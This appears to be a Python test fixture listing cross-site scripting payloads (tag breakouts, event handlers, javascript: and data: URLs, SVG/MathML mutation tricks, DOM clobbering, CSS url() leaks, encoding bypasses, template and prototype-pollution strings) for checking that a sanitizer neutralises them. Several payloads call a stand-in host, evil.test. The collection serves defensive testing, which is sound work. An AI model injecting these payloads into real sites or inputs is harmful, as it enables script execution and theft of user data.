"""Words that would be a program, were they ever read as markup, a selector, a key of an object or a command.

Families from the reports on Label Studio, JupyterLab, Notebook, bleach and lxml, written anew. Each calls `__ran` with
its own number in whatever window it runs, or asks `evil.test` for something; neither may ever happen.
"""

BREAKOUTS = (
    "<script>top.__ran(@)</script>",
    "<ScRiPt>top.__ran(@)</sCrIpT>",
    "<script src=http://evil.test/@></script>",
    "</script><script>top.__ran(@)</script>",
    "</textarea><img src=x onerror=top.__ran(@)>",
    "</title><svg onload=top.__ran(@)>",
    "</style><img src=x onerror=top.__ran(@)>",
    "--><img src=x onerror=top.__ran(@)>",
    "]]><img src=x onerror=top.__ran(@)>",
    '"><img src=x onerror=top.__ran(@)>',
    "'><img src=x onerror=top.__ran(@)>",
    "`><img src=x onerror=top.__ran(@)>",
    '" onmouseover="top.__ran(@)" x="',
    "' onfocus='top.__ran(@)' autofocus='",
    '" style="animation:x 1s" onanimationstart="top.__ran(@)',
    "x=y onclick=top.__ran(@) ",
)
HANDLERS = (
    "<img src=x onerror=top.__ran(@)>",
    "<img src=x:x onerror=top.__ran(@) //",
    "<IMG SRC=x ONERROR=top.__ran(@)>",
    "<img/src=x/onerror=top.__ran(@)>",
    "<img src=x onerror\n=\ntop.__ran(@)>",
    "<image src=x onerror=top.__ran(@)>",
    "<body onload=top.__ran(@)>",
    "<input autofocus onfocus=top.__ran(@)>",
    "<select autofocus onfocus=top.__ran(@)><option>x</select>",
    "<textarea autofocus onfocus=top.__ran(@)></textarea>",
    "<details open ontoggle=top.__ran(@)><summary>x</summary></details>",
    "<video><source onerror=top.__ran(@)></video>",
    "<video src=x onerror=top.__ran(@)></video>",
    "<audio src=x onerror=top.__ran(@)></audio>",
    "<object data=x onerror=top.__ran(@)></object>",
    "<marquee onstart=top.__ran(@)>x</marquee>",
    "<div onpointerover=top.__ran(@) style=position:fixed;inset:0>x</div>",
    "<link rel=stylesheet href=x onerror=top.__ran(@)>",
    "<style onload=top.__ran(@)>p{}</style>",
    "<p tabindex=0 onbeforematch=top.__ran(@) hidden=until-found>x</p>",
)
FRAMES = (
    '<iframe srcdoc="<script>top.__ran(@)</script>"></iframe>',
    "<iframe srcdoc='<img src=x onerror=top.__ran(@)>'></iframe>",
    "<iframe src=javascript:top.__ran(@)></iframe>",
    '<iframe src="data:text/html,<script>parent.__ran(@)</script>"></iframe>',
    "<iframe onload=top.__ran(@)></iframe>",
    "<embed src=javascript:top.__ran(@)>",
    "<object data=javascript:top.__ran(@)></object>",
    "<a href=javascript:top.__ran(@)>x</a>",
    '<a href="java&#115;cript:top.__ran(@)">x</a>',
    "<a href=' javascript:top.__ran(@)'>x</a>",
    "javascript:top.__ran(@)",
    "data:text/html,<script>top.__ran(@)</script>",
    "<form action=javascript:top.__ran(@)><button>x</button></form>",
    "<button formaction=javascript:top.__ran(@) form=x>x</button>",
    "<base href=http://evil.test/@/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/@'>",
    "<img src=http://evil.test/@>",
)
FOREIGN = (
    "<svg onload=top.__ran(@)>",
    "<svg><script>top.__ran(@)</script></svg>",
    "<svg><animate onbegin=top.__ran(@) attributeName=x dur=1s>",
    "<svg><set onbegin=top.__ran(@) attributeName=x to=1>",
    "<svg><a xlink:href=javascript:top.__ran(@)><text x=9 y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='top.__ran(@)'/>#x\"></svg>",
    "<svg><foreignObject><img src=x onerror=top.__ran(@)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=top.__ran(@)></style></mglyph></table></mtext></math>",
    "<math href=javascript:top.__ran(@)><mi>x</mi></math>",
    "<svg></p><style><a id='</style><img src=x onerror=top.__ran(@)>'>",
    "<noscript><p title='</noscript><img src=x onerror=top.__ran(@)>'>",
    "<template><img src=x onerror=top.__ran(@)></template>",
    "<template shadowrootmode=open><img src=x onerror=top.__ran(@)></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.__ran(@)>",
    "<select><template><style><img src=x onerror=top.__ran(@)></style></template></select>",
    "<table><td><xmp><img src=x onerror=top.__ran(@)></xmp>",
)
CLOBBERS = (
    "<a id=model><a id=model name=send>x</a></a>",
    "<form name=body><input name=firstChild></form>",
    "<img name=getElementById>",
    "<button data-commandlinker-command=apputils:print data-commandlinker-args='{}'>x</button>",
    "<div data-jupyter-widget-view-id=x class=jp-OutputArea-output>x</div>",
    "<x-y is=sw-text class=sw-line data-ids=s0>x</x-y>",
    '"] , * { } [data-card="',
    "r0 r1 s0",
)
SHEETS = (
    "<style>*{background:url(http://evil.test/@)}</style>",
    "<p style=background:url(http://evil.test/@)>x</p>",
    "red; background: url(http://evil.test/@)",
    "} * { background: url(http://evil.test/@) } x {",
    "<style>@import 'http://evil.test/@';</style>",
    "</style><script>top.__ran(@)</script>",
)
ENCODED = (
    "&lt;img src=x onerror=top.__ran(@)&gt;",
    "&#60;script&#62;top.__ran(@)&#60;/script&#62;",
    "\\u003cimg src=x onerror=top.__ran(@)\\u003e",
    "%3Cimg%20src=x%20onerror=top.__ran(@)%3E",
    "+ADw-script+AD4-top.__ran(@)+ADw-/script+AD4-",
    "\ufeff<img src=x onerror=top.__ran(@)>",
    "<\x00img src=x onerror=top.__ran(@)>",
    "<im\x00g src=x onerror=top.__ran(@)>",
    "<\u200bimg src=x onerror=top.__ran(@)>",
    "\u202e<img src=x onerror=top.__ran(@)>\u202c",
    "\u2066>(@)nar__.pot=rorreno x=crs gmi<\u2069",
    "＜img src=x onerror=top.__ran(@)＞",
    "‹img src=x onerror=top.__ran(@)›",
    "<img src=x\u2028onerror=top.__ran(@)>",
    "<img src=x onerror=top.__ran(@)>👩‍🚒é\u0301\U0001d4b3",
)
TEMPLATES = (
    "{{constructor.constructor('top.__ran(@)')()}}",
    "${top.__ran(@)}",
    "#{top.__ran(@)}",
    "<%= top.__ran(@) %>",
    "'-top.__ran(@)-'",
    '";top.__ran(@);//',
    "\\';top.__ran(@);//",
    '"}]}</script><img src=x onerror=top.__ran(@)>',
    '{"__proto__": {"ran": true}}',
    "$$\\href{javascript:top.__ran(@)}{x}$$",
    "[x](javascript:top.__ran(@))",
    "![x](http://evil.test/@)",
)
PROTOTYPES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "length",
    "undefined",
    "null",
)
"""What every object in a browser has already, so that a map made of an object takes it for known."""

_ALL = (*BREAKOUTS, *HANDLERS, *FRAMES, *FOREIGN, *CLOBBERS, *SHEETS, *ENCODED, *TEMPLATES)
SCRIPTS: tuple[str, ...] = tuple(words.replace("@", str(number)) for number, words in enumerate(_ALL))
"""Every payload with its number in it, as `__ran` would be told."""
